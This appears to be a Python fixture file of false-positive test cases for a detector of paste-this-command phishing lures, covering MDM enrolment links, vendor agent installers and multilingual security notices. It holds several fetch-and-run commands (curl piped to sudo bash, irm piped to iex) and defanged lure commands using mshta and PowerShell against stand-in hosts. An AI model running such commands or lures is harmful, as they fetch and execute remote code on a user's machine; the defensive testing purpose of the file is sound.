"""fpover22 texts for fpover21's leftovers: MDM enrolment links from the company's own knowledge
base into the Run box, agents of vendors the trust list does not know installed from a company
wiki that names the vendor, and defanged lure commands inside CJK prose, lower-case chat lines
and after a sentence's colon in other languages (own words; invented companies and lure hosts
on reserved names)."""

from fp22_dev import each

# --- MDM enrolment links: the company's KB, the username on the company's domain -------------
MDM = [
    *each(
        "https://kb.northwind.example/articles/enrol-your-windows-laptop",
        "run_dialog",
        "ms-device-enrollment:?mode=mdm&username=j.doe@northwind.example",
        "ms-device-enrollment:?mode=mdm&username=helpdesk@northwind.example&servername=https://enterpriseenrollment.northwind.example/EnrollmentServer/Discovery.svc",
    ),
    *each(
        "https://northwind.sharepoint.com/sites/IT/SitePages/Intune-enrolment.aspx",
        "run_dialog",
        "ms-device-enrollment:?mode=mdm&username=firstname.lastname@northwind.example",
    ),
    *each(
        "https://support.fabrikam.example/hc/en-us/articles/36001-enrol-in-intune",
        "run_dialog",
        "ms-device-enrollment:?mode=mdm&username=user@fabrikam.example",
        "ms-device-enrollment:?mode=aadj&username=user@fabrikam.example",
    ),
    *each(
        "https://it.globex.example/windows/device-management",
        "run_dialog",
        "ms-device-enrollment:?mode=mdm&username=your.name@globex.example",
    ),
    *each(
        "https://globex.atlassian.net/wiki/spaces/IT/pages/88112/Enroll+a+Windows+PC",
        "run_dialog",
        "ms-device-enrollment:?mode=mdm&username=your.name@globex.example",
    ),
    *each(
        "https://intranet.initech.example/it/intune",
        "run_dialog",
        "ms-device-enrollment:?mode=mdm&username=vorname.nachname@initech.example",
        "ms-device-enrollment:?mode=mdm&username=vorname.nachname@de.initech.example",
    ),
]

# --- agents of vendors named by the company's wiki page -------------------------------------
AGENTS = [
    *each(
        "https://wiki.northwind.example/display/SEC/Kolide+agent",
        "terminal",
        "curl -fsSL https://k2device.kolide.com/installers/northwind/linux.sh | sudo bash",
    ),
    *each(
        "https://wiki.northwind.example/display/IT/Vanta+agent+install",
        "terminal",
        'curl -fsSL https://app.vanta.com/osquery/install.sh | sudo VANTA_KEY="$VANTA_KEY" VANTA_OWNER_EMAIL="me@northwind.example" bash',
    ),
    *each(
        "https://confluence.globex.example/display/IT/Drata+Agent",
        "terminal",
        "irm https://agent.drata.com/windows/install.ps1 | iex",
    ),
    *each(
        "https://docs.internal.globex.example/it/action1-agent",
        "terminal",
        "msiexec /i https://app.action1.com/agent/windows/globex/action1_agent.msi /qn",
    ),
    *each(
        "https://intranet.initech.example/it/fleet-osquery",
        "terminal",
        "curl -fsSL https://northwind.cloud.fleetdm.com/api/latest/fleet/download_installer/pkg?enroll_secret=$FLEET_SECRET -o fleet.pkg && sudo installer -pkg fleet.pkg -target /",
    ),
    *each(
        "https://wiki.tailspin.example/ops/Tanium-client",
        "terminal",
        "iwr https://tanium.tailspin.example/downloads/TaniumClient-Setup.ps1 -OutFile $env:TEMP\\tc.ps1; & $env:TEMP\\tc.ps1",
    ),
    *each(
        "https://wiki.contoso-labs.example/display/SEC/Lacework+agent",
        "terminal",
        "curl -sSL https://packages.lacework.net/install.sh | sudo bash -s -- -U https://api.lacework.net $LW_TOKEN",
    ),
    *each(
        "https://kb.tailspin.example/articles/install-level-agent",
        "terminal",
        "irm https://downloads.level.io/install_windows.ps1 | iex",
    ),
    *each(
        "https://wiki.northwind.example/display/IT/Atera+agent",
        "terminal",
        'msiexec /i "https://northwind.servicedesk.atera.com/GetAgent/Msi/?customerId=1&integratorLogin=it%40northwind.example" /qn IntegratorLogin=it@northwind.example CompanyId=1',
    ),
    *each(
        "https://handbook.globex.example/security/endpoint/rapid7-insight-agent",
        "terminal",
        "curl -fsSL https://us.deployment.endpoint.ingress.rapid7.com/api/v1/agent/installer/linux | sudo bash -s -- --token us:$R7_TOKEN",
    ),
]

# --- defanged lure commands in prose the reader does not split ------------------------------
DEFANGED = [
    *each(
        "https://intranet.contoso-labs.example/ja/security/alerts/2026-12",
        "other",
        '注意喚起：取引先を装ったメールから偽の認証ページに誘導され、「Windows キー＋R を押して貼り付けてください」と指示される事例が確認されました。貼り付けられる内容は powershell -w h -c "iwr hxxps://cdn-verify[.]example/a|iex" のようなコマンドです。絶対に実行しないでください。',
        "セキュリティ通信：偽のCAPTCHA画面でコピーされる文字列の例は mshta hxxps://jp-check[.]example/v.hta です。心当たりのある方は情報セキュリティ室まで連絡してください。",
    ),
    *each(
        "https://intranet.globex.example/zh/security/tongbao",
        "other",
        "安全通报：近期出现伪造的人机验证页面，诱导员工按 Win+R 后粘贴命令，例如 mshta hxxps://verify-cn[.]example/c.hta 。请勿执行，如已执行请立即联系安全团队。",
        '钓鱼页面会把类似 powershell -w hidden -c "irm hxxps://upd-cn[.]example/s | iex" 的命令写入剪贴板，然后让你在运行框中粘贴。遇到此类页面请截图并上报。',
    ),
    *each(
        "https://intranet.initech.example/ko/security/notice",
        "other",
        "보안 공지: 가짜 캡차 페이지가 Win+R 창에 mshta hxxps://kr-verify[.]example/v 같은 명령을 붙여넣도록 유도하고 있습니다. 절대 실행하지 마시고 보안팀에 신고해 주세요.",
    ),
    *each(
        "https://northwind.slack.com/archives/C04SOC/p1733560000123456",
        "other",
        "fyi the new fake captcha copies `iwr hxxps://cf-check[.]example/x|iex` — proxy blocks it. if someone reports a win+r popup ping me",
        "heads-up: lure of the day asks mac users to paste curl -fsSL hxxps://mac-upd[.]example/i | sh into terminal. domain is sinkholed, nothing to do unless someone ran it",
        'saw this one in a ticket today: powershell -nop -w h -c "iex(irm hxxp://198.51.100[.]7/p)" — already blocked at the edge',
    ),
    *each(
        "https://intranet.globex.example/es/seguridad/avisos",
        "other",
        "Aviso de seguridad: la página falsa pide pulsar Win+R y pegar lo siguiente: mshta hxxps://verif-es[.]example/c.hta. No lo ejecutes y avisa al equipo de seguridad.",
    ),
    *each(
        "https://intranet.fabrikam.example/de/sicherheit/warnungen",
        "other",
        'Warnung: Die gefälschte Seite kopiert folgenden Befehl in die Zwischenablage: powershell -w h -c "iwr hxxps://pruef-de[.]example/s|iex". Bitte nicht ausführen, sondern an cert@fabrikam.example melden.',
    ),
    *each(
        "https://intranet.contoso-labs.example/fr/securite/alertes",
        "other",
        "Alerte : la fausse page vous demande de coller ceci dans Exécuter : mshta hxxps://verif-fr[.]example/p.hta. Ne le faites pas et prévenez l'équipe sécurité.",
    ),
    *each(
        "https://intranet.tailspin.example/pt/seguranca/alertas",
        "other",
        'Alerta de segurança: a página falsa copia o seguinte comando: powershell -w h -c "irm hxxps://verifica-pt[.]example/a|iex". Não execute e contacte a equipa de segurança.',
    ),
    *each(
        "https://intranet.northwind.example/it/sicurezza/avvisi",
        "other",
        "Avviso di sicurezza: la pagina fasulla chiede di incollare questo nella finestra Esegui: mshta hxxps://verifica-it[.]example/v. Non eseguitelo e segnalatelo al team sicurezza.",
    ),
]
